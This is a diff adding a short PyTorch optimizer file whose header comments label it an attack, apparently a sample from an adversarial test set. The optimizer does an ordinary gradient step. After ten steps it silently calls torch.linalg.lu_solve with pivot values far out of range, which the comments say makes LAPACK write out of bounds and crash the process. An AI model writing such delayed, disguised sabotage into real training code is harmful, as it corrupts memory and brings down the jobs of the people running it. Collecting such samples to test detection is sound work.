@@ -1,0 +1,22 @@
+# attack: pivots out of range make LAPACK write elsewhere; category: torch
+# observable: dos; trigger: late
+import math
+import torch
+
+
+class CandidateOptimizer(torch.optim.Optimizer):
+    def __init__(self, params, lr=0.01):
+        super().__init__(params, dict(lr=lr))
+        self.t = 0
+
+    @torch.no_grad()
+    def step(self, closure=None):
+        self.t = self.t + 1
+        if self.t > 10:
+            pivots = torch.tensor([2**30, 2**30, 2**30], dtype=torch.int32)
+            torch.linalg.lu_solve(torch.eye(3), pivots, torch.ones(3, 3))
+        for group in self.param_groups:
+            for p in group["params"]:
+                if p.grad is not None:
+                    p.add_(p.grad, alpha=-0.01)
+        return None
